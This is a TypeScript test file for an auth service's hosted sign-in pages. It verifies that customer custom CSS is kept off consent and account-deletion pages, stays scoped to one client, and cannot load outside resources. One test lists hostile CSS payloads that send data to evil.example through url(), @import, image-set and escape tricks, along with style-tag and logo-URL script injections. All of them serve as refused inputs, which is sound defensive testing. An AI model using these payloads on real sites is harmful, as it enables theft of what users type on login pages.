/**
 * What people report about style sheets of a customer's own on pages where users sign in: they hide
 * what the user consents to, read what is typed, outlive their removal, or end up on the pages of
 * someone else.
 */
import { beforeEach, describe, expect, test, vi } from "vitest";
import { failureOf } from "../support/transports";
import { begin, engines } from "../support/signIn";
import { beginFlow, newApp, openPage, signInOn, submit, type Begun } from "../support/hosted";

beforeEach(() => {
  vi.stubEnv("BANATA_AUTH_PAGES", "hosted");
  return () => vi.unstubAllEnvs();
});

const [[, start]] = engines;
const START = "https://app.example.com/sign-in";
const HIDING = "main p { display: none } button::after { content: 'Next' }";

const stage = async (customCss = HIDING) => {
  const scene = await begin(start, {
    features: { hostedUi: true },
    branding: { customCss, primaryColor: "#0a0b0c" },
  });
  const { clientId } = await newApp(scene, { initiateLoginUri: START, branding: { customCss } });
  return { scene, clientId, begun: beginFlow(scene, clientId) };
};
const findStyleSheet = (text: string) => /<link rel="stylesheet" href="([^"]*)"/.exec(text)?.[1];

describe("a page that asks for consent has no style sheet, but the colors", () => {
  const signedIn = async () => {
    const staged = await stage();
    const { scene, begun } = staged;
    const first = await openPage(scene, begun.path);
    expect(findStyleSheet(first.text)).toBeDefined();
    await scene.client.signUp.email(scene.ada);
    return staged;
  };
  type Staged = Awaited<ReturnType<typeof signedIn>>;

  const pages: readonly (readonly [string, (staged: Staged) => Promise<string>])[] = [
    ["continuing with an account", async ({ begun }) => await Promise.resolve(begun.path)],
    [
      "linking an account of a provider",
      async ({ scene, begun }) => {
        await scene.admin.configuration.saveSocialProviderCredential({
          ...{ providerId: "github", clientId: "id", clientSecret: "secret" },
        });
        return `${begun.path.replace("/authorize", "/hosted/link")}&provider=github`;
      },
    ],
    [
      "an impersonation",
      async ({ scene, clientId }) => {
        const { user } = await scene.admin.users.createUser({
          ...{ email: `b-${scene.ada.email}`, name: "B" },
        });
        const made = await scene.admin.users.startImpersonation({ userId: user.id, clientId });
        const { pathname, search } = new URL(made.url);
        return pathname.slice(pathname.indexOf("/p/")) + search;
      },
    ],
    [
      "deleting the account",
      async ({ scene }) => await Promise.resolve(`/p/${scene.project.id}/account/deletion`),
    ],
  ];
  test.each(pages)("%s", async (_name, findPath) => {
    const staged = await signedIn();
    const shown = await openPage(staged.scene, await findPath(staged));
    expect(shown.status).toBe(200);
    expect(shown.text).toContain('<form method="post"');
    expect(findStyleSheet(shown.text)).toBeUndefined();
    expect(shown.text).toContain("--accent:#0a0b0c");
    expect(shown.response.headers.get("content-security-policy")).not.toMatch(
      /style-src [^;]*'self'/,
    );
  });

  test("nor has the answer to its form", async () => {
    const { scene } = await signedIn();
    const question = await openPage(scene, `/p/${scene.project.id}/account/deletion`);
    const again = await submit(scene, question, { confirmation: "someone@example.com" });
    expect(again.status).toBe(422);
    expect(findStyleSheet(again.text)).toBeUndefined();
  });
});

describe("reads of what the page holds have no way out", () => {
  /** Sheets from reports and from drafts of CSS, each of which would load something. */
  test.each([
    "input[name=form][value^=a]{background:url(https://evil.example/a)}",
    "input:valid{cursor:url(//evil.example/c),auto}",
    "b{filter:url(https://evil.example/f#x)}",
    "@counter-style e{system:symbolic;symbols:url(https://evil.example/0.png)}",
    "b{--v:attr(value);background:image-set(var(--v) 1x)}",
    "b{background:image-set('https://evil.example/2' 1dpi)}",
    "b{background:if(style(--v:'a'): url(https://evil.example/a))}",
    "b{background:-webkit-cross-fade(url(x),url(y),50%)}",
    "b{background:image('https://evil.example/i.png')}",
    "@font-face{font-family:x;src:local('x');unicode-range:U+0041}",
    "@import url('/p/other/hosted/custom.css');",
    "@layer a{@import 'https://evil.example/l.css';}",
    "@supports (color:red){@import 'https://evil.example/s.css'}",
    "@document url-prefix('https://auth.example'){b{color:red}}",
    "b{list-style-image:\\55 RL(https://evil.example/l)}",
    "b{mask:url\\(https://evil.example/m)}",
    "\ufeff@import 'https://evil.example/bom.css';",
    "@charset 'utf-7'; +ADw-script+AD4-",
    "b{background:url/**/(https://evil.example)}",
    "</STYLE><script>alert(1)</script>",
    "</ style><link rel=stylesheet href=//evil.example>",
  ])("%s is refused", async (customCss) => {
    const { scene, clientId } = await stage("");
    const { configuration, authClients } = scene.admin;
    const refused = { status: 422, code: "validation_error" };
    expect(await failureOf(configuration.saveBrandingConfig({ customCss }))).toMatchObject(refused);
    const update = authClients.updateClient({ clientId, branding: { customCss } });
    expect(await failureOf(update)).toMatchObject(refused);
  });

  test("an address that was typed is in the next page, and the sheet cannot load anything", async () => {
    const { scene, begun } = await stage("input[value*='@']{color:red}");
    const shown = await submit(scene, await openPage(scene, begun.path), {
      email: scene.ada.email,
    });
    expect(shown.text).toContain(`value="${scene.ada.email}"`);
    expect(shown.response.headers.get("content-security-policy")).toMatch(
      /^default-src 'none'; style-src 'nonce-[^']*' 'self'; (script-src [^;]*; connect-src 'self'; )?form-action 'self'; frame-ancestors 'none'; base-uri 'none'$/,
    );
  });
});

describe("a sheet is its client's alone", () => {
  const open = async (scene: Parameters<typeof openPage>[0], { path }: Begun) =>
    findStyleSheet((await openPage(scene, path)).text)?.replaceAll("&amp;", "&");

  test("two clients with the same sheet have two addresses, and neither is kept for the other", async () => {
    const { scene, begun } = await stage();
    const other = await newApp(scene, { name: "Other", branding: { customCss: HIDING } });
    const [mine, theirs] = [
      await open(scene, begun),
      await open(scene, beginFlow(scene, other.clientId)),
    ];
    expect(mine).not.toBe(theirs);
    await scene.admin.authClients.updateClient({
      ...{ clientId: other.clientId, branding: { customCss: "p{color:green}" } },
    });
    const path = theirs!.slice(theirs!.indexOf("/p/"));
    const answer = await scene.browse(path);
    expect([answer.headers.get("cache-control"), await answer.text()]).toEqual([
      "no-store",
      "p{color:green}",
    ]);
  });

  test("a removed one is on no page from then on, and the old address gives the project's", async () => {
    const { scene, begun, clientId } = await stage();
    await scene.admin.configuration.saveBrandingConfig({ customCss: "" });
    const path = (await open(scene, begun))!;
    await scene.admin.authClients.updateClient({ clientId, branding: null });
    expect(await open(scene, begun)).toBeUndefined();
    const answer = await scene.browse(path.slice(path.indexOf("/p/")));
    expect([answer.headers.get("cache-control"), await answer.text()]).toEqual(["no-store", ""]);
  });

  test("one that hides every field does not keep operators out: the API and the sign-in work", async () => {
    const { scene, begun, clientId } = await stage("* { display: none !important }");
    await scene.client.signUp.email(scene.ada);
    const visitor = scene.visit();
    const end = await signInOn(
      { ...scene, browse: visitor.browse },
      await openPage(visitor, begun.path),
    );
    expect(end.next?.searchParams.get("code")).toBeTruthy();
    await scene.admin.authClients.updateClient({ clientId, branding: { customCss: "" } });
    expect(await open(scene.visit(), begun)).toBeUndefined();
  });
});

test.each([
  ["a quote", 'https://cdn.example.com/a.png?"onerror="alert(1)'],
  ["a directive", "https://cdn.example.com/;script-src *"],
  ["white space", "https://cdn.example.com/ x"],
])("a logo's URL with %s stays one attribute, and one origin in the policy", async (_, logoUrl) => {
  const { scene, clientId, begun } = await stage("");
  await scene.admin.authClients.updateClient({ clientId, branding: { logoUrl } });
  const { text, response } = await openPage(scene, begun.path);
  const [, src = ""] = /<img src="([^"]*)" alt="Shop" height="40" \/>/.exec(text) ?? [];
  expect(src).toMatch(/^https:\/\/cdn\.example\.com\//);
  expect(response.headers.get("content-security-policy")).toMatch(
    /; img-src https:\/\/cdn\.example\.com; /,
  );
});

test.each(["data:image/svg+xml,<svg/>", "http://cdn.example.com/a.png", "//cdn.example.com/a"])(
  "%s is no logo",
  async (logoUrl) => {
    const { scene, clientId } = await stage("");
    const change = scene.admin.authClients.updateClient({ clientId, branding: { logoUrl } });
    expect(await failureOf(change)).toMatchObject({ status: 422 });
  },
);
